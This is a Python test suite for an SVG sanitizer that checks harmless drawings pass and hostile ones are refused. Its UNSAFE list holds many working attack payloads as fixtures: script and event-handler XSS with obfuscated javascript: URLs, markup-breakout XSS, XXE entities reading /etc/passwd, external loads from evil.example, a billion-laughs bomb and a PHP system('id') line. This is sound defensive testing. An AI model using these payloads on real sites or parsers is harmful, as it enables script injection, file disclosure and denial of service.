"""SVGs that are safe to show, and the many that are not."""

import asyncio
import base64
import contextlib
import time

import pytest

from longshore.adapters.content import ContentDetector, StrictSvgJudge
from longshore.core.media import BrokenMedia
from longshore.ports.content import UnsafeSvg
from tests import corpus

NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
PNG = "data:image/png;base64," + base64.b64encode(corpus.png(4, 4, 1)).decode()


def svg(inside: str, attributes: str = "") -> str:
    return f"<svg {NS} viewBox='0 0 9 9' {attributes}>{inside}</svg>"


async def judge(document: str | bytes) -> None:
    await StrictSvgJudge().judge(document.encode() if isinstance(document, str) else document)


HARMLESS = {
    "shapes": svg('<g id="a"><rect width="4" height="4" rx="1"/><circle r="2"/><path d="M0 0L9 9z"/></g>'),
    "corpus": corpus.SVG.decode(),
    "no namespace": "<svg width='1' height='1'><rect/></svg>",
    "prefixed": '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:rect width="1"/></s:svg>',
    "prolog": '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- Generator: Adobe Illustrator -->\n'
    + svg(""),
    "doctype": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    + svg(""),
    "old doctype": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.0//EN" '
    '"http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd">' + svg(""),
    "bare doctype": "<!DOCTYPE svg>" + svg(""),
    "internal use": svg('<defs><path id="p"/></defs><use href="#p"/><use xlink:href="#p" x="2"/>'),
    "gradients": svg(
        '<defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient>'
        '<radialGradient id="r" xlink:href="#g"/></defs><rect fill="url(#g)" stroke="url(\'#r\') none"/>'
    ),
    "clip, mask, filter": svg(
        '<clipPath id="c"><rect/></clipPath><mask id="m"/><filter id="f"><feGaussianBlur stdDeviation="2"/></filter>'
        '<g clip-path="url(#c)" mask="url(#m)" filter="url(#f)" style="fill:url(#g);clip-path:url( \'#c\' )"/>'
    ),
    "style sheet": svg(
        "<style>.a{fill:#f00;stroke:rgba(0,0,0,.5)} @media (min-width: 9px) { .b { fill: url(#g) } }</style>"
    ),
    "style in CDATA": svg('<style type="text/css"><![CDATA[ .a > .b { fill: red } ]]></style>'),
    "style and comment": svg("<style><!-- .a { fill: red } --></style>"),
    "embedded font": svg(
        "<style>@font-face{font-family:x;src:url(data:font/woff2;base64,d09GMg==) format('woff2')}</style>"
    ),
    "css animation": svg(
        "<style>@keyframes k{to{transform:rotate(1turn)}} .a:not(.b):nth-child(2n){animation:k 1s}</style>"
    ),
    "escapes in css": svg("<style>.\\31 a::before{content:'\\201C'} text{font-family:'Myriad\\ Pro'}</style>"),
    "embedded picture": svg(f'<image href="{PNG}" width="4"/><image xlink:href="{PNG}"/>'),
    "wrapped base64": svg(f'<image href="{PNG[:60]}\n   {PNG[60:]}"/>'),
    "text": svg('<text x="1">Hello <tspan font-weight="bold">you &amp; me &lt;3</tspan></text><title>A (b)</title>'),
    "labels": svg('<g id="Layer(1)" data-name="Group(copy)" aria-label="f(x)" class="a"/>'),
    "smil": svg('<rect><animate attributeName="x" from="0" to="9" dur="1s" values="0;5;9"/></rect>'),
    "smil transform": svg('<g><animateTransform attributeName="transform" type="rotate" from="0" to="360"/></g>'),
    "link inside": svg('<a href="#there"><rect/></a>'),
    "transform": svg('<g transform="translate(1 2) rotate(45) matrix(1,0,0,1,0,0)"/>'),
    "inkscape": f"""<?xml version="1.0"?>
      <svg {NS} xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
       xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
       xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#"
       xmlns:dc="http://purl.org/dc/elements/1.1/" sodipodi:docname="a.svg">
      <sodipodi:namedview id="base" inkscape:zoom="1"><inkscape:grid type="xygrid"/></sodipodi:namedview>
      <metadata><rdf:RDF><cc:Work rdf:about=""><dc:format>image/svg+xml</dc:format>
      <dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/></cc:Work></rdf:RDF></metadata>
      <g inkscape:label="Layer 1" inkscape:groupmode="layer" style="display:inline"/></svg>""",
    "utf-16": svg("<text>Grüße</text>").encode("utf-16"),
    "byte order mark": b"\xef\xbb\xbf" + svg("").encode(),
    "latin-1": b'<?xml version="1.0" encoding="ISO-8859-1"?><svg><text>\xfc</text></svg>',
    "xmp packet": svg('<metadata><?xpacket begin="" id="W5M0"?><?xpacket end="w"?></metadata>'),
    "comment of code": svg("<!-- <rect onload='nothing'/> -->"),
}


@pytest.mark.parametrize("document", HARMLESS.values(), ids=HARMLESS)
async def test_harmless_drawings_pass(document: str | bytes) -> None:
    await judge(document)


UNSAFE = [
    # script and other elements
    ("element", svg("<script>alert(1)</script>")),
    ("element", corpus.SVG_WITH_SCRIPT.decode()),
    ("element", svg("<script href='https://evil.example/x.js'/>")),
    ("element", svg("<script xlink:href='data:text/javascript,alert(1)'/>")),
    ("element", svg("<g><defs><script/></defs></g>")),
    ("element", svg("<SCRIPT>alert(1)</SCRIPT>")),
    ("element", svg("<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='x'/></foreignObject>")),
    ("element", svg("<foreignobject/>")),
    ("element", svg("<handler type='text/javascript'>alert(1)</handler>")),
    ("element", svg("<listener event='load' handler='#x'/>")),
    ("element", svg("<iframe src='javascript:alert(1)'/>")),
    ("element", svg("<audio src='x' onerror='alert(1)'/>")),
    ("element", svg("<video><source onerror='alert(1)'/></video>")),
    ("element", svg("<embed src='x'/>")),
    ("element", svg("<object data='x'/>")),
    ("element", svg("<img src='x' onerror='alert(1)'/>")),
    ("element", svg("<image2/>")),
    ("element", svg("<set2/>")),
    ("element", svg("<discard/>")),
    ("element", svg("<color-profile xlink:href='http://evil.example/p.icc'/>")),
    ("element", svg("<font-face-uri xlink:href='http://evil.example/f.svg'/>")),
    ("element", svg("<tref xlink:href='http://evil.example/t'/>")),
    ("element", svg("<cursor xlink:href='x.png'/>")),
    ("element", "<svg><script>alert(1)</script></svg>"),
    ("element", '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>'),
    ("element", '<svg xmlns:a="http://www.w3.org/2000/svg"><a:script>alert(1)</a:script></svg>'),
    ("element", svg("<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>")),
    # other languages inside
    ("namespace", svg("<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>")),
    ("namespace", svg("<h:img xmlns:h='http://www.w3.org/1999/xhtml' src='x' onerror='alert(1)'/>")),
    ("namespace", svg("<h:iframe xmlns:h='http://www.w3.org/1999/xhtml'/>")),
    ("namespace", svg("<metadata><h:script xmlns:h='http://www.w3.org/1999/xhtml'>x</h:script></metadata>")),
    ("namespace", svg("<m:math xmlns:m='http://www.w3.org/1998/Math/MathML'/>")),
    ("namespace", svg("<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>")),
    ("namespace", svg("<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/>")),
    ("namespace", svg("<b:bindings xmlns:b='http://www.mozilla.org/xbl'/>")),
    ("namespace", svg("<x:x xmlns:x='urn:anything'/>")),
    ("namespace", svg("<script xmlns='http://ns.adobe.com/x/'>alert(1)</script>")),
    # event handlers
    ("event", svg("", "onload='alert(1)'")),
    ("event", svg("", "ONLOAD='alert(1)'")),
    ("event", svg("<g onclick='alert(1)'/>")),
    ("event", svg("<animate onbegin='alert(1)' attributeName='x' dur='1s'/>")),
    ("event", svg("<rect onfocusin='alert(1)' tabindex='1'/>")),
    ("event", svg("<rect onanythingnew='alert(1)'/>")),
    ("event", svg("<g xmlns:x='urn:x' x:onload='alert(1)'/>")),
    ("event", svg("<g xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load' ev:handler='#h'/>")),
    ("event", "<svg onload\n=\n'alert(1)'/>"),
    # links that run
    ("script-url", svg("<a href='javascript:alert(1)'><rect/></a>")),
    ("script-url", svg("<a xlink:href='javascript:alert(1)'><rect/></a>")),
    ("script-url", svg("<a href='JaVaScRiPt:alert(1)'/>")),
    ("script-url", svg("<a href=' &#9;java&#10;script&#13;:alert(1)'/>")),
    ("script-url", svg("<a href='&#106;avascript:alert(1)'/>")),
    ("script-url", svg("<a href='\u200bjavascript:alert(1)'/>")),
    ("script-url", svg("<a href='vbscript:x'/>")),
    ("script-url", svg("<a href='data:text/html,&lt;script>alert(1)&lt;/script>'/>")),
    ("script-url", svg("<a href='data:text/html;base64,PHNjcmlwdD4='/>")),
    ("script-url", svg("<a href='data:application/xhtml+xml,x'/>")),
    ("script-url", svg("<image href='data:image/svg+xml;base64,PHN2Zz4='/>")),
    ("script-url", svg("<use href='data:image/svg+xml,&lt;svg id=\"x\"/>#x'/>")),
    ("script-url", svg("<animate attributeName='x' values='0;javascript:alert(1)'/>")),
    # references to the outside
    ("reference", svg("<a href='https://evil.example/'/>")),
    ("reference", svg("<a href='//evil.example/'/>")),
    ("reference", svg("<a href='other.html'/>")),
    ("reference", svg("<a href='mailto:a@b.example'/>")),
    ("reference", svg("<use href='http://evil.example/a.svg#x'/>")),
    ("reference", svg("<use xlink:href='other.svg#x'/>")),
    ("reference", svg(f"<use href='{PNG}'/>")),
    ("reference", svg("<image href='http://evil.example/track.png'/>")),
    ("reference", svg("<image xlink:href='file:///etc/passwd'/>")),
    ("reference", svg("<image xlink:href='secret.png'/>")),
    ("reference", svg("<image xlink:href='\\\\evil.example\\share'/>")),
    ("reference", svg("<image xlink:HREF='http://evil.example/'/>")),
    ("reference", svg("<image src='http://evil.example/'/>")),
    ("reference", svg("<feImage href='http://evil.example/'/>")),
    ("reference", svg("<filter><feImage xlink:href='a.svg#b'/></filter>")),
    ("reference", svg("<linearGradient xlink:href='http://evil.example/#g'/>")),
    ("reference", svg("<textPath href='http://evil.example/#p'/>")),
    ("reference", svg("<mpath href='http://evil.example/#p'/>")),
    ("reference", svg("<g xmlns:y='urn:y' y:href='http://evil.example/'/>")),
    ("reference", svg("<image href='data:image/png,notbase64'/>")),
    ("reference", svg("<image href='data:;base64,AAAA'/>")),
    ("reference", svg("<a href='#x' ping='http://evil.example/'/>")),
    ("reference", svg("<g srcdoc='x'/>")),
    ("base", svg("<use href='#x'/>", "xml:base='http://evil.example/a.svg'")),
    # style
    ("css", svg("<style>@import 'http://evil.example/a.css';</style>")),
    ("css", svg("<style>@import url(//evil.example/a.css);</style>")),
    ("css", svg("<style>@IMPORT 'x';</style>")),
    ("css", svg("<style>@\\69mport 'x';</style>")),
    ("css", svg("<style>@im/**/port 'x'; @i\\6d port 'x';</style>")),
    ("css", svg("<style>/* */@import 'x';/* */</style>")),
    ("css", svg("<style>.a{fill:url(http://evil.example/#g)}</style>")),
    ("css", svg("<style>.a{fill:u\\72l(http://evil.example/#g)}</style>")),
    ("css", svg("<style>.a{fill:\\000075\\000072\\00006c(http://evil.example/#g)}</style>")),
    ("css", svg("<style>.a{background:url('track.png')}</style>")),
    ("css", svg("<style>.a{background:image-set('http://evil.example/a.png' 1x)}</style>")),
    ("css", svg("<style>.a{background:-webkit-image-set(url(#a) 1x)}</style>")),
    ("css", svg("<style>.a{background:image('http://evil.example/a.png')}</style>")),
    ("css", svg("<style>.a{background:src('http://evil.example/a.png')}</style>")),
    ("css", svg("<style>.a{background:cross-fade(url(x),url(y))}</style>")),
    ("css", svg("<style>.a{width:expression(alert(1))}</style>")),
    ("css", svg("<style>.a{-moz-binding:url(#x)}</style>")),
    ("css", svg("<style>.a{behavior:url(#x)}</style>")),
    ("css", svg("<style>@font-face{src:url(http://evil.example/f.woff)}</style>")),
    ("css", svg("<style>@font-face{src:url(data:text/html,x)}</style>")),
    ("css", svg("<style>@namespace url(http://www.w3.org/1999/xhtml);</style>")),
    ("css", svg("<style>.a{fill:url(http://evil.example/</style>")),
    ("css", svg("<style><![CDATA[@import 'x';]]></style>")),
    ("css", svg("<style>@imp<!-- -->ort 'x';</style>")),
    ("css", svg("<style>&#64;import 'x';</style>")),
    ("css", "<svg><style>@import 'x';</style></svg>"),
    ("css", svg("<rect style='fill:url(http://evil.example/#g)'/>")),
    ("css", svg("<rect style='fill:url(\"a.svg#g\")'/>")),
    ("css", svg("<rect style='x:expression(1)'/>")),
    ("css", svg("<rect fill='url(http://evil.example/#g)'/>")),
    ("css", svg("<rect fill='u\\72 l(http://evil.example/#g)'/>")),
    ("css", svg("<rect filter='url(other.svg#f)'/>")),
    ("css", svg("<rect mask='url(//evil.example/#m)'/>")),
    ("css", svg("<rect marker-end='url(x#m)'/>")),
    ("css", svg("<rect cursor='url(http://evil.example/c.png), auto'/>")),
    ("css", svg("<rect clip-path=\"url('x#c')\"/>")),
    ("css", svg("<rect fill='url(#a) url(http://evil.example/)'/>")),
    # animations that set what is judged above
    ("animation", svg("<a><animate attributeName='href' to='#x'/></a>")),
    ("animation", svg("<a><animate attributeName='xlink:href' values='#x;#y'/></a>")),
    ("animation", svg("<a><set attributeName='href' to='#y'/></a>")),
    ("animation", svg("<set attributeName='onclick' to='x'/>")),
    ("animation", svg("<set attributeName=' ONCLICK ' to='x'/>")),
    ("animation", svg("<set attributeName='style' to='x'/>")),
    ("animation", svg("<animate attributeName='x' to='http://evil.example/'/>")),
    # declarations
    ("doctype", '<!DOCTYPE svg [<!ENTITY x "y">]><svg>&x;</svg>'),
    ("doctype", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'),
    ("doctype", '<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><svg/>'),
    ("doctype", '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg/>'),
    ("doctype", '<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd"><svg/>'),
    ("doctype", '<!DOCTYPE svg SYSTEM "x.dtd"><svg/>'),
    ("doctype", '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg11.dtd"><svg/>'),
    (
        "doctype",
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
        + "]><svg>&i;</svg>",
    ),
    ("entity", '<!DOCTYPE svg PUBLIC "" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg>&x;</svg>'),
    ("instruction", '<?xml-stylesheet href="http://evil.example/a.css"?><svg/>'),
    ("instruction", '<?xml-stylesheet type="text/xsl" href="#x"?><svg/>'),
    ("instruction", '<svg><?php system("id") ?></svg>'),
    ("instruction", "<svg/><?xml-stylesheet href='a.css'?>"),
    ("encoding", b'<?xml version="1.0" encoding="utf-7"?><svg/>'),
    ("encoding", b'<?xml version="1.0" encoding="cp037"?><svg/>'),
    ("encoding", b'<?xml version="1.0" encoding="windows-1252"?><svg/>'),
    # harmless as SVG, script once pasted into HTML
    ("markup", svg("<title><![CDATA[</title><img src=x onerror=alert(1)>]]></title>")),
    ("markup", svg("<text><![CDATA[<img src=x onerror=alert(1)>]]></text>")),
    ("markup", svg("<!--><img src=x onerror=alert(1)>-->")),
    ("markup", svg("<!---><img src=x onerror=alert(1)>-->")),
    ("markup", svg("<style><!--</style><img src=x onerror=alert(1)>--></style>")),
    ("markup", svg("<desc><!--</desc><img src=x onerror=alert(1)>--></desc>")),
    ("markup", svg("<style>&lt;/style>&lt;img src=x onerror=alert(1)></style>")),
    ("markup", svg("<style><![CDATA[</style><script>alert(1)</script>]]></style>")),
    ("markup", svg("<title><style>a{}</style></title>")),
    ("markup", svg("<style><g/></style>")),
    # too much
    ("depth", "<svg>" + "<g>" * 300 + "</g>" * 300 + "</svg>"),
    ("elements", "<svg>" + "<g/>" * 200_001 + "</svg>"),
    ("size", "<svg>" + " " * 11_000_000 + "</svg>"),
]


@pytest.mark.parametrize(("rule", "document"), UNSAFE, ids=[f"{n}-{rule}" for n, (rule, _) in enumerate(UNSAFE)])
async def test_what_could_run_or_load_is_refused_by_its_rule(rule: str, document: str | bytes) -> None:
    with pytest.raises(UnsafeSvg) as failure:
        await judge(document)
    assert failure.value.fields == {"rule": rule}
    assert failure.value.detail.startswith("The SVG")


@pytest.mark.parametrize(
    "document",
    [
        "",
        "hello",
        "<svg",
        "<svg>",
        "<svg></g>",
        "<svg><g></svg>",
        "<svg/><svg/>",
        "<svg/>trailing",
        "<svg a=b/>",
        "<svg a='1' a='2'/>",
        "<svg>&undefined;</svg>",
        "<svg><x:g/></svg>",
        "<svg><style><![CDATA[</style></svg>",
        "<svg>\0</svg>",
        "<svg><!-- -- --></svg>",
        "<html><svg/></html>",
        "<g/>",
        "<svg xmlns='http://www.w3.org/1999/xhtml'/>",
        "<svg xmlns='http://www.w3.org/2000/svg script'/>",
        b"<svg>\xff</svg>",
        b'<?xml version="1.0" encoding="utf-16"?><svg/>',
        corpus.photo_jpeg(320, 240, 1),
        corpus.truncated(svg("<rect/>" * 100).encode()),
    ],
)
async def test_what_is_no_svg_is_broken(document: str | bytes) -> None:
    with pytest.raises(BrokenMedia):
        await judge(document)


@pytest.mark.parametrize(("rule", "document"), UNSAFE, ids=[f"{n}-{rule}" for n, (rule, _) in enumerate(UNSAFE)])
async def test_nothing_that_is_refused_here_goes_by_another_type(rule: str, document: str | bytes) -> None:
    """A kind that takes texts must not be a way around the judge: detection sends all of these here, or refuses."""
    raw = document.encode() if isinstance(document, str) else document
    detector = ContentDetector()

    found = await detector.detect(raw[: detector.head_size], name="drawing.txt")
    assert found in ("image/svg+xml", "application/xml", "text/html")


async def test_a_large_drawing_does_not_stop_the_loop() -> None:
    """4 MiB of dense markup: below a second of CPU, in a thread, while the loop turns."""
    document = svg('<path d="M0 0L9 9z" fill="#fff" style="stroke:#000;opacity:.5"/>' * 60_000).encode()
    start = time.process_time()
    judging = asyncio.create_task(judge(document))
    turns = 0
    while not judging.done():
        await asyncio.sleep(0.005)
        turns += 1
    await judging
    assert time.process_time() - start < 4
    assert turns > 5


async def test_a_large_embedded_picture_is_read_quickly() -> None:
    picture = "data:image/png;base64," + "A" * 8_000_000
    start = time.process_time()
    await judge(svg(f'<image href="{picture}"/>'))
    assert time.process_time() - start < 2


@pytest.mark.parametrize(
    ("unit", "times"),
    [
        ("url(", 200_000),
        ("url(#a", 200_000),
        ("/*", 200_000),
        ("\\", 200_000),
        ("a(", 200_000),
        ("@", 200_000),
        ("@ ", 200_000),
        ("a", 2_000_000),
        ("a-", 1_000_000),
        (" ", 2_000_000),
        ("url( ", 200_000),
        ("url(#" + " " * 1000, 1000),
        ("'", 1_000_000),
        ("{", 1_000_000),
    ],
)
async def test_hostile_style_sheets_take_no_time(unit: str, times: int) -> None:
    start = time.process_time()
    with contextlib.suppress(UnsafeSvg):
        await judge(svg(f"<style>{unit * times}</style>"))
    with contextlib.suppress(UnsafeSvg):
        await judge(svg(f'<rect style="{unit * times}" fill="({unit * times}" href="{unit * times}"/>'))
    assert time.process_time() - start < 6
